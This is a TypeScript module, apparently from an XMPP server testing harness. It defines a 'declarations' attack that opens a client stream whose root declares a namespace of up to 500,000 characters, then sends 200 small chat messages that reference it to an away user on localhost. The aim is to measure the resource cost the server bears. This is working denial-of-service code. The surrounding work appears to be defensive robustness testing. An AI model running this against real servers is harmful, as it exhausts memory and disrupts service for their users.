import type { Attack } from "../attack.ts";
import type { AttackContext } from "../attack-context.ts";
import type { Attacker } from "../attacker.ts";

const STREAMS = "http://etherx.jabber.org/streams";

/** A session whose stream root declares a namespace of this length. Throws where the server refuses it. */
async function openDeclaring(context: AttackContext, username: string, length: number): Promise<Attacker> {
  const client = await context.openStream();
  client.openStream = async () => {
    client.expectHeader();
    const namespaces = `xmlns='jabber:client' xmlns:stream='${STREAMS}' xmlns:p='u:${"A".repeat(length)}'`;
    const header = `<stream:stream ${namespaces} to='localhost' version='1.0'>`;
    context.countClient(header.length);
    client.send(header);
    client.features = await client.receive(({ name }) => name === "stream:features");
  };
  await client.login({ username, password: context.password, resource: "attack" });
  return context.attacker(client);
}

/** Sends `text` `count` times, on a stream root of half a megabyte or, if that is refused, of the largest accepted size. */
async function sendOnDeclaring(context: AttackContext, username: string, count: number, text: string): Promise<string> {
  let refusal = "";
  for (const length of [500_000, 900]) {
    try {
      const attacker = await openDeclaring(context, username, length);
      attacker.sends(text.repeat(count));
      await attacker.pings();
      return `${refusal}root of ${length.toLocaleString("en")}: ${attacker.answerSummary()}`;
    } catch (error) {
      refusal = `root of ${length.toLocaleString("en")}: ${error instanceof Error ? error.message.slice(0, 60) : error}; `;
    }
  }
  return refusal;
}

export const declarations: Attack = {
  name: "declarations",
  about:
    "a stream's root declares a namespace of 500,000 characters; then 200 messages of 75 bytes, each with one element of it, to somebody who is away.",
  accounts: ["tybalt", "juliet"],
  run: async (context) => {
    await context.startMeasurement();
    const text = "<message to='juliet@localhost' type='chat'><body>x</body><p:a/></message>";
    return sendOnDeclaring(context, "tybalt", 200, text);
  },
};
